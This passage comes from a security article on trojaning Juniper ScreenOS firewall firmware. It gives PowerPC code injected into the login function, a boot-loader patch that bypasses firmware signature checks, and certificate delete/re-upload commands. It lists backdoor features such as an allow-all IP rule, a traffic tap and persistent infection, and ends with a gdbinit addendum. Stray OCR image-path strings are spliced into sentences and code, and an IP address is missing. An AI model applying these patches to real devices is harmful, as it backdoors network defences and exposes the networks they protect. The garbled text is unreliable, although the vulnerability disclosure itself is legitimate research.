to include useful functionality at address 0x0031b4ac to 0x0031b4b0

First we write our desired functionality in PowerPC assembly and replace a
chunk of nulls with the hex values of the assembly opcodes.

The steps to execute this code are:
- Patch a branch in ScreenOS to call our code
- Run our injected code which can potentially call ScreenOS functions
- Branch backto callee

This code can be injected at address 0x002BB4E0 in the firmware and called
from the login function of ScreenOS:

003F7F04 mr      %r4, %r27
003F7F08 mr      %r5, %r30
003F7F0C bl      GET_HASHED_PASS    # patch this to call our code
003F7F10 cmpwi   %r3, 0
003F7F14 bne     loc_3F7F24
003F7F18 li      %r0, 2
003F7F1C stw     %r0, 0(%r29)
003F7F20 b       loc_3F7F28


003f7f0c bl GET_HASHED_PASS


003f7f0c bl 0x31b4c0

which will jump to the location containing the injected code.  To inject
code the PowerPC architecture features such as flat memory model, fixed
width 4 byte instructions and the link register make this fairlystraightforward to implement. A very simple proof of concept example,
which prints out a string to the console on every login, is provided

stwu    %sp,    -0x20(%sp)  # reserve some stack space
mflr    %r0         # minimal function prolog
lis     %r3,    string_msb_address  # load half of string
addi    %r3,    %r3,    string_lsb_address  # load second half of string
bl      Print_To_Console    # call ScreenOS function
mtlr    %r0
addi    %sp, 0x20       #minimal function epilog
bl      callee_function     # branch back to calling function

As PowerPC has a fix instruction size of 4 bytes to load a 4 byte string
we need two instructions. The first loads the most significant bytes -
2 bytes for load instruction into register and 2 bytes of string, the
second adds the least significant bytes to the register to give us 4 byte

This asssembly is then translated in hex and patched into the firmware
using a hex editor at absolute address 0x002bb4e0 overwriting existing
nulls bytes:

0x002bb4b0: 93DFCAC4 4BD48E69 80010014 7C0803A6
0x002bb4c0: 83C10008 83E1000C 38210010 4E800020
0x002bb4d0: 00000000 00000000 00000000 00000000
0x002bb4e0: 9421FFE0 7C0802A6 3C6000C4 386321BC <----
0x002bb4f0: 488ED7E9 60630001 7C0803A6 38210020 injected code
0x002bb500: 480DCA31 00000000 00000000 00000000 ->
0x002bb510: 00000000 00000000 00000000 00000000

From reverse engineering we haveidentified a ScreenOS function which
prints strings to the console. So here we have new functionality injected
into the ScreenOS firmware which has new code but also calls builtin
ScreenOS functionality. The string loaded can be one already existing in
ScreenOS or a new one injected somewhere into the null byte area.
Every time a userlogins the string will be output to the serial console.

--[ 0x9 - Zombie Loader

ScreenOS does include a facility to validate firmware images and all
Juniper firmware images are signed. Crucially though the validating
certificate is NOT installed by default on any Netscreen AND anyone with
administrator rights can delete and install the certifcate. To enable
firmware image authentication it is necessary to obtain the certificate
from the Juniper website and then upload the certificate to the device
using the following command:

    save image-key tftp image-key.cer

In the example above image-key isthe certificate to be uploaded from the
tftp server with IP address Note the insecure transport
mechanism for a cryptographic key. This is vulnerable to a man in the
middle attack.

The firmware authentication check code is present in the boot loader which
we can modify to authenticate all firmware images or only non-Juniper
images. It may also be possible to sign firmware with our own certificate
and upload this to the Netscreen to be used for validation.

Patching the Boot Loader to bypass certificate authentication.
To bypass the firmware authentication check only one branch instruction
needs to be patched:

beq -> bl       0x4182001C -> 0x4800001C0000D68C  bl      sub_98B8
0000D690  cmpwi   %r3, 0        # %r3 has result ofimage validation
0000D694  beq     loc_D6B0          # branch if passed
0000D698  lis     %r3, aBogusImageNotA@h    # image not authenticated
0000D69C  addi    %r3, %r3, aBogusImageNotA@l
0000D6A0  crclr   4*cr1+eq
0000D6A4  bl      sub_C8D0
0000D6A8  li      %r31, -1
0000D6AC  b       loc_D6E0

If we replace

0000D694  beq     loc_D6B0      # branch if passed

0000D694 bl      loc_D6B0       # always branch, all images authenticated

or this

0000D694 bneloc_D6B0       # evil...only bogus images authenticated

we can successfully load modified firmware even if a Juniper certificate
is installed on the device. The boot loader is automatically upgraded when
an image is loaded if the new boot loader differs from the existing.

In summary the steps to bypass firmware authentication are:

1. Delete certificate if one has been uploaded using the command:
    ns5xt>delete crypto auth-key

2. Upload the modified firmware image including modified boot loader.

3. Upload the certificate using:

    ns5xt>save image-key tftp imagekey.cer

--[ 0xA - 28 Hacks Later

A more usefultrojaned firmware can perform numerous functions leveraging
existing ScreenOS functionality such as
- loading a hidden shadow configuration file
- allowing all traffic from one IP through the Netscreen to the network
- a network traffic tap
- persistent infection via boot loader on a firmware upgrade
- client side attacks against Administrators via Javascript code injection
 into the web console

--[ 0xB - Closing Scene

If unauthorised access is gained to a device running ScreenOS it is
possible for an attacker to replace the boot loader and operating system
with a modified version which is undetectable except by off line
comparison with a known image.

Juniper in-memory infection.

A very stealthy attack is also possible due to a feature of ScreenOS. When
loading a firmware over serial console two options are provided:
1. Save firmware to flash and then run new firmware.2. Just run new firmware without saving to flash.

In the second case the modified firmware will be wiped on reboot and the
previously stored firmware will be run. After a reboot no trace of the
modified firmware will be left.

These attacks are straightforward for an attacker anywhere in the supply
chain (ie vendors. manufacturers) or someone with physical access (ie
third party support). If an administrator uses TFTP or HTTP to upgrade a
Netscreen it is also possible to conduct a man-in-the-middle attack and
replace the firmware being uploaded with a modified version on the wire.

These attacks could be prevented by Juniper pre-installing a certificate
for image authentication which can not be deleted or modified.

--[ 0xC - References

- Juniper JTAC Bulletin PSN-2008-11-111
ScreenOS Firmware Image Authenticity Notification
"All Juniper ScreenOS Firewall Platforms are susceptible to
circumstances in which a maliciously modified ScreenOS image can
be installed."

--[ 0xD - Credits
George Romero, antic0de, the belgian, hawkes, zadig, lenny, mark, andy,
ruxcon, kiwicon, +Mammon, +Orc

--[ 0xE Adddendum:

~/.gdbinit for remote PowerPC debugging
#---remote connect command over USB serial link---
define netscreen
    set height 0
    set logging ontarget remote /dev/ttyUSB0
#---breakpoint aliases---
define bpl
    info breakpoints

define bpc
    clear $arg0

define bpe
    enable $arg0define bpd
    disable $arg0

#---process information---
define stack
    info stack
    info frame
    info args
    info locals

define reg
    printf " r00:%08X r01:%08X r02:%08X r03:%08X", $r0, $r1, $r2, $r3
    printf " \t pc:%08X\n", $pc
    printf " r04:%08X r05:%08X r06:%08X r07:%08X\n", $r4, $r5, $r6, $r7
    printf " r08:%08X r09:%08X r10:%08X r11:%08X", $r8, $r9, $r10, $r11
    printf " \t lr:%08X\n", $lr
    printf " r12:%08X r13:%08X r14:%08X r15:%08X\n", $r12, $r13, $r14, $r15
    printf " r16:%08X r17:%08X r18:%08X r19:%08X", $r16, $r17, $r18, $r19
    printf " \tctr:%08X\n", $ctr
    printf " r20:%08X r21:%08X r22:%08X r23:%08X\n", $r20, $r21, $r22, $r23
    printf " r24:%08X r25:%08X r26:%08X r27:%08X", $r24, $r25, $r26, $r27
    printf " \t cr:%08X\n",$cr
    printf " r28:%08X r29:%08X r30:%08X r31:%08X", $r28, $r29, $r30, $r31
    printf " \txer:%08X\n", $xerdefine func
    info functions

define var
    info variables

define lib
    info sharedlibrary

define sig
    info signals

define threadice
    info threads

define u
    info udot

define dis
    disassemble $arg0#---hex/ascii dump address---
define hexdump
    printf "%08X : ", $arg0
    printf "%02X %02X %02X %02X  %02X %02X %02X %02X", *(unsigned char*) /
($arg0), *(unsigned char*)($arg0 + 1),*(unsigned char*)($arg0+2), /
*(unsigned char*)($arg0 + 3),*(unsigned char*)($arg0+4), *(unsigned char*)/
 ($arg0 + 5),*(unsigned char*)($arg0+6), *(unsigned char*)($arg0 + 7)
    printf " - "
    printf "%02X %02X %02X %02X  %02X %02X %02X %02X",*(unsigned char*) /
($arg0+8), *(unsigned char*)($arg0 + 9),*(unsigned char*)($arg0+10), /
*(unsigned char*)($arg0 + 11),*(unsigned char*)($arg0+12), /
*(unsigned char*)($arg0 + 13),*(unsigned char*)($arg0+14), /
*(unsigned char*)($arg0 + 15)
    printf " %c%c%c%c%c%c%c%c%c%c%c%c%c%c%c%c\n",*(unsigned char*)($arg0),/
 *(unsigned char*)($arg0 + 1),*(unsigned char*)($arg0+2), /
*(unsigned char*)($arg0 + 3),*(unsigned char*)($arg0+4), /
*(unsigned char*)($arg0 + 5),*(unsigned char*)($arg0+6), /
*(unsigned char*)($arg0 + 7),*(unsigned char*)($arg0+8), /
*(unsigned char*)($arg0 + 9),*(unsigned char*)($arg0+10),/
 *(unsigned char*)($arg0 + 11),*(unsigned char*)($arg0+12), /
*(unsigned char*)($arg0 + 13),*(unsignedchar*)($arg0+14), /
